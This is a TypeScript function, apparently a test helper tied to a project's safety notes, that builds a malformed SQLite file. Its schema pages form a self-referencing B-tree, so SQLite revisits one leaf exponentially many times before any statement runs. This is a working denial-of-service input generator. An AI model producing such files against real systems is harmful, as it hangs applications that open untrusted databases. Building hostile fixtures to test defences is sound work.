/**
 * A project file whose table of tables visits the same leaf `fan ** depth` times (SAFETY.md Q2): interior pages whose
 * children are all one page. SQLite reads it before the first statement and can be interrupted by nobody.
 * The leaf holds a row that may stand there any number of times: that of an automatic index.
 */
export function schemaBomb(good: Buffer, index: { name: string; table: string; root: number }, depth: number, fan = 500): Buffer {
  const pageSize = good.readUInt16BE(16)
  const first = good.length / pageSize + 1
  if (good[100] !== 5) throw new Error('the table of tables fits one page')

  const texts = ['index', index.name, index.table].map(text => Buffer.from(text))
  const header = Buffer.from([0, ...texts.map(text => 13 + 2 * text.length), 4, 0])
  header[0] = header.length
  const root = Buffer.alloc(4)
  root.writeUInt32BE(index.root)
  const record = Buffer.concat([header, ...texts, root])
  const cell = Buffer.concat([Buffer.from([record.length, 127]), record])
  const leaf = Buffer.alloc(pageSize)
  leaf[0] = 13
  leaf.writeUInt16BE(1, 3)
  leaf.writeUInt16BE(pageSize - cell.length, 5)
  leaf.writeUInt16BE(pageSize - cell.length, 8)
  cell.copy(leaf, pageSize - cell.length)

  /** An interior page of these children. */
  const interior = (children: number[]): Buffer => {
    const page = Buffer.alloc(pageSize)
    const lefts = children.slice(0, -1)
    page[0] = 5
    page.writeUInt16BE(lefts.length, 3)
    page.writeUInt16BE(pageSize - 5 * lefts.length, 5)
    page.writeUInt32BE(children.at(-1) as number, 8)
    for (const [i, child] of lefts.entries()) {
      const at = pageSize - 5 * (i + 1)
      page.writeUInt16BE(at, 12 + 2 * i)
      page.writeUInt32BE(child, at)
      page[at + 4] = 127
    }
    return page
  }
  // Pages: the new right end of the root (what was there, then the bomb), `depth` levels, the leaf.
  const levels = Array.from({ length: depth }, (_, level) => interior(new Array<number>(fan).fill(first + 2 + level)))
  const bomb = Buffer.concat([good, interior([good.readUInt32BE(108), first + 1]), ...levels, leaf])
  bomb.writeUInt32BE(first, 108)
  bomb.writeUInt32BE(bomb.length / pageSize, 28)
  return bomb
}
